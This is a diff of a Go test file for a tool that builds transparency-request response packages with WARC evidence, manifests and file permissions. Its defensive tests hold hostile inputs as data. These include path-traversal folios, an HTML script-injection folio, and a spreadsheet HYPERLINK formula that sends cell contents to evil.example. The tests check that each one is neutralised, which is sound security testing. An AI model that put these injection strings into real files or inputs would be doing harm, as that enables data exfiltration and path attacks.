@@ -13,10 +13,13 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strconv"
 	"strings"
+	"syscall"
 	"testing"
+	"time"
 
 	"github.com/vigia-mx/vigia/access"
 	"github.com/vigia-mx/vigia/archive"
@@ -92,7 +95,7 @@ func TestBuild(t *testing.T) {
 
 	t.Run("counts", func(t *testing.T) {
 		got := [...]int{pkg.Delivered, pkg.Excluded, pkg.Undetermined, len(pkg.Redactions), pkg.EvidenceRecords, len(pkg.Missing), len(pkg.Withheld)}
-		want := [...]int{4, 1, 1, 3, 2, 0, 2}
+		want := [...]int{4, 1, 1, 3, 3, 0, 2}
 		if got != want {
 			t.Errorf("delivered, excluded, undetermined, redactions, records, missing, withheld = %v, want %v", got, want)
 		}
@@ -177,16 +180,17 @@ func TestBuild(t *testing.T) {
 
 	t.Run("evidence", func(t *testing.T) {
 		// The listing of the works account is copied once for its two
-		// posts; the meeting's holds what was masked and the councillor's
-		// listing holds her personal post: both withheld.
-		recs := verifyEvidence(t, pkg, 3)
+		// posts, after the warcinfo record of its file; the meeting's
+		// holds what was masked and the councillor's listing holds her
+		// personal post: both withheld.
+		recs := verifyEvidence(t, pkg, 4)
 		if recs[0].typ != "warcinfo" || !strings.Contains(string(recs[0].block), "140285725000123") {
 			t.Errorf("first record is %s: %q", recs[0].typ, recs[0].block)
 		}
-		got := []string{recs[1].id, recs[2].id}
-		want := []string{f.requests[f.listing.RecordID], f.listing.RecordID}
+		got := []string{recs[1].typ, recs[2].id, recs[3].id}
+		want := []string{"warcinfo", f.requests[f.listing.RecordID], f.listing.RecordID}
 		if !slices.Equal(got, want) {
-			t.Errorf("records %q, want the listing's request and response %q", got, want)
+			t.Errorf("records %q, want the listing's file's warcinfo, then its request and response %q", got, want)
 		}
 		withheld := strings.Join(pkg.Withheld, "\n")
 		for _, want := range []string{
@@ -215,7 +219,7 @@ func TestBuild(t *testing.T) {
 			"<strong>1</strong> publicación está pendiente de revisión",
 			"<td>mastodon/obras-gdl/113</td><td>mención</td><td>Artículo 116",
 			"<td>correo</td>", "<td>teléfono</td>",
-			"2 registros WARC",
+			"3 registros WARC",
 			"No se incluye la evidencia de 2 publicaciones",
 			"Gracias [mención testado] por el reporte",
 			`<a href="https://social.example/@obras-gdl/111">`,
@@ -230,7 +234,8 @@ func TestBuild(t *testing.T) {
 	})
 }
 
-// checkManifest checks MANIFIESTO.sha256 with sha256sum and in Go.
+// checkManifest checks MANIFIESTO.sha256 with sha256sum and in Go, and
+// that its first line is the comment naming the request.
 func checkManifest(t *testing.T, pkg *access.Package) {
 	t.Helper()
 	if _, err := exec.LookPath("sha256sum"); err != nil {
@@ -243,7 +248,12 @@ func checkManifest(t *testing.T, pkg *access.Package) {
 		}
 	}
 	var listed []string
-	for l := range strings.Lines(string(readFile(t, filepath.Join(pkg.Dir, "MANIFIESTO.sha256")))) {
+	manifest := string(readFile(t, filepath.Join(pkg.Dir, "MANIFIESTO.sha256")))
+	comment, manifest, _ := strings.Cut(manifest, "\n")
+	if want := "# Solicitud de acceso a la información, folio "; !strings.HasPrefix(comment, want) {
+		t.Errorf("manifest starts %q, want %q and the folio", comment, want)
+	}
+	for l := range strings.Lines(manifest) {
 		sum, name, ok := strings.Cut(strings.TrimSuffix(l, "\n"), "  ")
 		if !ok {
 			t.Fatalf("manifest line %q", l)
@@ -273,7 +283,14 @@ func verifyEvidence(t *testing.T, pkg *access.Package, n int) []warcRecord {
 	if ix.Files != 1 || ix.Records != n || len(recs) != n {
 		t.Fatalf("verify read %d files, %d records; the file holds %d; want 1 file of %d", ix.Files, ix.Records, len(recs), n)
 	}
+	infos := map[string]bool{}
 	for _, r := range recs {
+		if r.typ == "warcinfo" {
+			infos[r.id] = true
+		}
+		if r.warcinfo != "" && !infos[r.warcinfo] {
+			t.Errorf("%s record %s names warcinfo %s, not before it in the file", r.typ, r.id, r.warcinfo)
+		}
 		if _, ok := ix.Lookup(r.id); !ok {
 			t.Errorf("verify did not index %s", r.id)
 		}
@@ -286,12 +303,12 @@ func TestBuildWithoutRedactCopiesEvidenceOfDeliveredPosts(t *testing.T) {
 	pkg := build(t, request(), f.hits, access.Options{WARCDir: f.warcDir})
 	// The listing and the meeting (request and response each); the
 	// councillor's listing holds her personal post.
-	recs := verifyEvidence(t, pkg, 5)
+	recs := verifyEvidence(t, pkg, 6)
 	meeting := f.hits[2].WARC.RecordID
-	if got, want := recs[4].id, meeting; got != want {
+	if got, want := recs[5].id, meeting; got != want {
 		t.Errorf("last record %s, want %s", got, want)
 	}
-	if got, want := recs[3].id, f.requests[meeting]; got != want {
+	if got, want := recs[4].id, f.requests[meeting]; got != want {
 		t.Errorf("record before the meeting's response %s, want its request %s", got, want)
 	}
 	if len(pkg.Withheld) != 1 || !strings.HasPrefix(pkg.Withheld[0], "mastodon/regidora-lopez/901 ") {
@@ -308,7 +325,7 @@ func TestBuildWithoutRedactCopiesEvidenceOfDeliveredPosts(t *testing.T) {
 
 func TestBuildEvidenceProblems(t *testing.T) {
 	ev := newEvidence(t, true) // one file per exchange
-	refs := make([]archive.WARCRef, 5)
+	refs := make([]archive.WARCRef, 6)
 	for i := range refs {
 		refs[i] = ev.add("https://social.example/api/v1/statuses/"+strconv.Itoa(i+1), page(textPotholes), false)
 	}
@@ -322,6 +339,15 @@ func TestBuildEvidenceProblems(t *testing.T) {
 	if err := os.WriteFile(damaged, data, 0o644); err != nil {
 		t.Fatal(err)
 	}
+	// A file whose warcinfo record is gone: the records that name it
+	// cannot be delivered with it.
+	noInfo := refs[5]
+	data = readFile(t, filepath.Join(ev.dir, noInfo.File))
+	cut := firstMember(t, data)
+	noInfo.File, noInfo.Offset = "sin-warcinfo.warc.gz", noInfo.Offset-cut
+	if err := os.WriteFile(filepath.Join(ev.dir, noInfo.File), data[cut:], 0o644); err != nil {
+		t.Fatal(err)
+	}
 	wrongDigest, wrongID := refs[2], refs[3]
 	wrongDigest.Digest = "sha256:" + strings.Repeat("0", 64)
 	wrongID.RecordID = "<urn:uuid:00000000-0000-4000-8000-000000000000>"
@@ -333,10 +359,8 @@ func TestBuildEvidenceProblems(t *testing.T) {
 		hit("obras-gdl", "5", archive.Function, textPotholes, refs[4]),
 		hit("obras-gdl", "6", archive.Function, textPotholes, archive.WARCRef{}),
 		hit("obras-gdl", "7", archive.Function, textPotholes, archive.WARCRef{File: "../x.warc.gz", RecordID: "<urn:uuid:x>"}),
+		hit("obras-gdl", "8", archive.Function, textPotholes, noInfo),
 	}
-	pkg := build(t, request(), hits, access.Options{WARCDir: ev.dir})
-
-	verifyEvidence(t, pkg, 3) // warcinfo, and the first post's request and response
 	want := []string{
 		"mastodon/obras-gdl/2 (archivo " + refs[1].File + ", registro " + refs[1].RecordID + "): no se encontró el archivo",
 		"mastodon/obras-gdl/3 (archivo " + refs[2].File + ", registro " + refs[2].RecordID + "): su WARC-Block-Digest no es el de la referencia",
@@ -345,7 +369,33 @@ func TestBuildEvidenceProblems(t *testing.T) {
 		"mastodon/obras-gdl/5 (archivo " + refs[4].File + ", registro " + refs[4].RecordID + "): no se pudo leer el registro en el desplazamiento " + strconv.FormatInt(refs[4].Offset, 10),
 		"mastodon/obras-gdl/6: sin referencia a evidencia WARC",
 		"mastodon/obras-gdl/7 (archivo ../x.warc.gz, registro <urn:uuid:x>): nombre de archivo no válido",
+		"mastodon/obras-gdl/8 (archivo sin-warcinfo.warc.gz, registro " + noInfo.RecordID + "): no se pudo leer el registro warcinfo al inicio del archivo",
 	}
+
+	// Unless the officer allows it, no package is made without the
+	// evidence of a post it delivers; the error names every such post.
+	dir := filepath.Join(t.TempDir(), "solicitud")
+	_, err := access.Build(t.Context(), request(), hits, dir, access.Options{WARCDir: ev.dir, Now: func() time.Time { return now }})
+	var missing *access.MissingEvidenceError
+	if !errors.Is(err, access.ErrMissingEvidence) || !errors.As(err, &missing) {
+		t.Fatalf("error %v, want a MissingEvidenceError", err)
+	}
+	if len(missing.Posts) != len(want) {
+		t.Fatalf("the error names %q, want %d posts", missing.Posts, len(want))
+	}
+	for i, w := range want {
+		if !strings.HasPrefix(missing.Posts[i], w) || !strings.Contains(err.Error(), w) {
+			t.Errorf("the error's post %d is %q, want it to start %q", i, missing.Posts[i], w)
+		}
+	}
+	for _, path := range []string{dir, dir + ".zip"} {
+		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("%s left behind", path)
+		}
+	}
+
+	pkg := build(t, request(), hits, access.Options{WARCDir: ev.dir, AllowMissingEvidence: true})
+	verifyEvidence(t, pkg, 4) // its warcinfo; the first post's file's warcinfo, request and response
 	if len(pkg.Missing) != len(want) {
 		t.Fatalf("Missing = %q, want %d entries", pkg.Missing, len(want))
 	}
@@ -358,8 +408,8 @@ func TestBuildEvidenceProblems(t *testing.T) {
 			t.Errorf("respuesta.html lacks %q", w)
 		}
 	}
-	if !strings.Contains(report, "No se pudo incluir la evidencia de 6 publicaciones") {
-		t.Error("respuesta.html does not say evidence is missing")
+	if !strings.Contains(report, "No se pudo incluir la evidencia de 7 publicaciones; quien elaboró el paquete pidió expresamente entregarlo sin ella:") {
+		t.Error("respuesta.html does not say evidence is missing, as the officer allowed")
 	}
 	checkManifest(t, pkg)
 }
@@ -371,8 +421,8 @@ func TestBuildReadsFileBeingWritten(t *testing.T) {
 		t.Fatalf("the writer's file is not open: %v", err)
 	}
 	pkg := build(t, request(), []archive.Hit{hit("obras-gdl", "1", archive.Function, textPotholes, ref)}, access.Options{WARCDir: ev.dir})
-	if recs := verifyEvidence(t, pkg, 3); recs[2].id != ref.RecordID {
-		t.Errorf("copied %s, want %s", recs[2].id, ref.RecordID)
+	if recs := verifyEvidence(t, pkg, 4); recs[3].id != ref.RecordID {
+		t.Errorf("copied %s, want %s", recs[3].id, ref.RecordID)
 	}
 }
 
@@ -392,7 +442,8 @@ func TestBuildWithoutWARCDir(t *testing.T) {
 }
 
 func TestBuildRefuses(t *testing.T) {
-	for _, folio := range []string{"", "../140285725000123", "1402/85", "folio 1", "año-2026", "..", strings.Repeat("1", 65)} {
+	for _, folio := range []string{"", "   ", strings.Repeat("1", 101), "UT/0042\n2026", "UT\t0042", "F-1\x7f", "F-1\u0085",
+		"\u202eF-1", "F-\xff1"} {
 		req := request()
 		req.Folio = folio
 		dir := filepath.Join(t.TempDir(), "paquete")
@@ -402,13 +453,6 @@ func TestBuildRefuses(t *testing.T) {
 		}
 		if _, err := os.Stat(dir); !errors.Is(err, os.ErrNotExist) {
 			t.Errorf("folio %q: %s was created", folio, dir)
-		}
-	}
-	for _, folio := range []string{"140285725000123", "SO-2026_01.a", strings.Repeat("9", 64)} {
-		req := request()
-		req.Folio = folio
-		if _, err := access.Build(t.Context(), req, nil, filepath.Join(t.TempDir(), "p"), access.Options{}); err != nil {
-			t.Errorf("folio %q: %v", folio, err)
 		}
 	}
 
@@ -475,5 +519,145 @@ func TestBuildCancelled(t *testing.T) {
 		if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
 			t.Errorf("%s left behind", path)
 		}
+	}
+}
+
+// Folios as offices write them are accepted and shown verbatim: in the
+// report (HTML-escaped), the manifest and the evidence's warcinfo record;
+// the package is where it was asked for, whatever the folio says.
+func TestFolioAsWritten(t *testing.T) {
+	for _, folio := range []string{
+		"UT/0042/2026", "140285726000123", "SAIP-2026-118", "SO-2026_01.a",
+		"../../etc", ".hidden", "..", "a/b", "Solicitud ñandú №7 (Zapopan)", `F-1 <script>alert("x")</script> & 'y'`,
+		strings.Repeat("9", 100),
+	} {
+		t.Run(access.SafeName(folio), func(t *testing.T) {
+			req := request()
+			req.Folio = folio
+			parent := t.TempDir()
+			dir := filepath.Join(parent, "paquete")
+			pkg, err := access.Build(t.Context(), req, nil, dir, access.Options{Now: func() time.Time { return now }})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if pkg.Dir != dir || pkg.Zip != dir+".zip" {
+				t.Errorf("package at %s and %s, want %s", pkg.Dir, pkg.Zip, dir)
+			}
+			if entries, _ := os.ReadDir(parent); len(entries) != 2 {
+				t.Errorf("%s holds %d entries, want the folder and its zip", parent, len(entries))
+			}
+			files := contents(t, pkg)
+			report := files["respuesta.html"]
+			if !strings.Contains(report, "<dt>Folio</dt><dd>"+html.EscapeString(folio)+"</dd>") {
+				t.Errorf("respuesta.html does not show the folio %q escaped", folio)
+			}
+			if strings.Contains(folio, "<") && strings.Contains(report, "<script") {
+				t.Error("respuesta.html holds the folio's markup")
+			}
+			if !strings.HasPrefix(files["MANIFIESTO.sha256"], "# Solicitud de acceso a la información, folio "+folio+"\n") {
+				t.Errorf("manifest does not name the folio: %.120q", files["MANIFIESTO.sha256"])
+			}
+			if !strings.Contains(files["evidencia.warc.gz"], "isPartOf: solicitud "+folio+"\r\n") {
+				t.Errorf("the warcinfo record does not name the folio")
+			}
+			checkManifest(t, pkg)
+		})
+	}
+}
+
+func TestSafeName(t *testing.T) {
+	for _, tc := range []struct{ folio, want string }{
+		{"140285726000123", "140285726000123"},
+		{"SAIP-2026-118", "SAIP-2026-118"},
+		{"UT/0042/2026", "UT-0042-2026"},
+		{"../../etc", "etc"},
+		{".hidden", "hidden"},
+		{"..", "solicitud"},
+		{"///", "solicitud"},
+		{"a/b", "a-b"},
+		{"SO-2026_01.a", "SO-2026_01-a"},
+		{"--x--", "x"},
+		{"Solicitud ñandú №7 (Zapopan)", "Solicitud-nandu-7-Zapopan"},
+		{"Überprüfung", "Uberprufung"},
+		{"折り紙", "solicitud"},
+		{`C:\Windows\..\x`, "C-Windows-x"},
+		{strings.Repeat("ab/", 40), strings.TrimSuffix(strings.Repeat("ab-", 22), "-")[:64]},
+	} {
+		got := access.SafeName(tc.folio)
+		if got != tc.want {
+			t.Errorf("SafeName(%q) = %q, want %q", tc.folio, got, tc.want)
+		}
+		if ok, _ := regexp.MatchString(`^[A-Za-z0-9_][A-Za-z0-9_-]{0,63}$`, got); !ok || strings.HasSuffix(got, "-") {
+			t.Errorf("SafeName(%q) = %q: not a safe name", tc.folio, got)
+		}
+	}
+}
+
+// A package is the office's until delivered: no other user of the machine
+// reads it.
+func TestBuildPermissions(t *testing.T) {
+	f := newFixture(t)
+	old := syscall.Umask(0o022)
+	defer syscall.Umask(old)
+	check := func(pkg *access.Package) {
+		t.Helper()
+		mode := func(path string) os.FileMode {
+			fi, err := os.Stat(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return fi.Mode().Perm()
+		}
+		if m := mode(pkg.Dir); m != 0o700 {
+			t.Errorf("%s: mode %v, want 0700", pkg.Dir, m)
+		}
+		for _, name := range append(slices.Clone(pkg.Files), "MANIFIESTO.sha256") {
+			if m := mode(filepath.Join(pkg.Dir, name)); m != 0o600 {
+				t.Errorf("%s: mode %v, want 0600", name, m)
+			}
+		}
+		if m := mode(pkg.Zip); m != 0o600 {
+			t.Errorf("%s: mode %v, want 0600", pkg.Zip, m)
+		}
+	}
+	check(build(t, request(), f.hits, access.Options{WARCDir: f.warcDir}))
+	// a folder the officer made is taken, and closed to others
+	dir := filepath.Join(t.TempDir(), "respuesta")
+	if err := os.Mkdir(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	pkg, err := access.Build(t.Context(), request(), f.hits, dir, access.Options{WARCDir: f.warcDir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	check(pkg)
+}
+
+// A post whose text a spreadsheet would run as a formula is delivered as
+// text: its cell starts with an apostrophe. The JSON lines keep it as is.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	const formula = `=HYPERLINK("http://evil.example/?q="&A1,"Ver informe")`
+	hits := []archive.Hit{
+		hit("obras-gdl", "1", archive.Function, formula, archive.WARCRef{}),
+		hit("obras-gdl", "2", archive.Function, "+52 33 0000 0000 es el teléfono de la oficina", archive.WARCRef{}),
+		hit("obras-gdl", "3", archive.Function, textPotholes, archive.WARCRef{}),
+	}
+	pkg := build(t, request(), hits, access.Options{})
+	files := contents(t, pkg)
+	rows, err := csv.NewReader(strings.NewReader(files["publicaciones.csv"])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"'" + formula, "'+52 33 0000 0000 es el teléfono de la oficina", textPotholes}
+	for i, w := range want {
+		if got := rows[i+1][8]; got != w {
+			t.Errorf("post %d: text cell %q, want %q", i+1, got, w)
+		}
+		if got := rows[i+1][4]; got != "'@obras-gdl" {
+			t.Errorf("post %d: author cell %q, want '@obras-gdl", i+1, got)
+		}
+	}
+	if !strings.Contains(files["publicaciones.jsonl"], `"text":"=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Ver informe\")"`) {
+		t.Errorf("publicaciones.jsonl changed the text: %s", files["publicaciones.jsonl"])
 	}
 }
